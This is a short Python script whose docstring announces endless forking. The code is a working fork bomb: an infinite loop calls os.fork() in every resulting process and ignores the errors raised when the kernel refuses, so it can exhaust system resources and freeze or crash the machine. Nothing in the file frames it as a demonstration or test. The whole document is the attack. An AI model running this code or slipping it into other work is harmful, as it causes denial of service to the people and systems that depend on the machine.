"""Fork without end, in every process, as fast as the kernel allows."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
